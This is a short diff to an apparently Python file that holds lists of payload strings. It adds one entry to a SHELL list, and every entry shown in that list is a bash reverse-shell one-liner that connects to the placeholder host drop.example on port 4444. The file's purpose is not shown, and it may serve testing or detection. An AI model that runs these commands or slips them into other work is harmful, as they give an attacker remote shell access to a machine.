@@ -40,6 +40,7 @@ PYTHON = [
 ]
 SHELL = [
     "bash -i >& /dev/tcp/drop.example/4444 0>&1",
+    "exec bash -i >& /dev/tcp/drop.example/4444 0>&1",
     "/bin/bash -l > /dev/tcp/drop.example/4444 0<&1 2>&1",
     "0<&196;exec 196<>/dev/tcp/drop.example/4444; sh <&196 >&196 2>&196",
     "exec 5<>/dev/tcp/drop.example/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
